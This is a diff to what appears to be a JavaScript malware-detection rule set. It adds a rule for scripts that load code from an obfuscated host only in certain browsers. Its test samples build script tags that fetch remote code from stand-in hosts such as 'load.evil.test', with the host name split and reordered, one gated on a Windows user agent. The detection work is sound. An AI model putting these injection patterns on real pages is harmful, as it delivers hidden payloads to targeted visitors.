@@ -2,7 +2,7 @@ import type { Facts } from '../facts/facts.ts';
 import { writtenTexts } from '../decoded-code.ts';
 import type { Effect } from '../trace/trace-context.ts';
 import type { Feature, Finder } from './feature.ts';
-import { effects } from './finders.ts';
+import { allOf, effects, paths } from './finders.ts';
 import { isPacked } from './packer.ts';
 import { isService } from './services.ts';
 
@@ -71,6 +71,21 @@ export const unpackedFeatures: readonly Feature[] = [
         `var h = ['test', 'evil', 'load.'], s = document.createElement('script'); s.src = '//' + h[2] + h[1] + '.' + h[0] + '/a.js';`,
         `var h = 'load.evil.test', s = document.createElement('script'); s.src = '//' + h + '/a.js';`,
         `var m = new Image(); m.src = '//' + ['a', 'test'].join('.') + '/a.png';`,
+      ],
+    },
+  },
+  {
+    id: 'hidden-host-for-some',
+    what: 'Loads from a hidden host in certain browsers only',
+    points: 30,
+    shows: ['hidden'],
+    find: allOf(hiddenLoads, paths('navigator.userAgent', 'navigator.platform')),
+    samples: {
+      matching: [
+        `if (/Windows/.test(navigator.userAgent)) { var h = ['st', 'go.', 'listed', 'un'], s = document.createElement('script'); s.src = '//' + h[3] + h[2] + '.' + h[1] + 'te' + h[0] + '/a.js'; }`,
+      ],
+      other: [
+        `if (/Windows/.test(navigator.userAgent)) { var s = document.createElement('script'); s.src = '//unlisted.test/a.js'; }`,
       ],
     },
   },
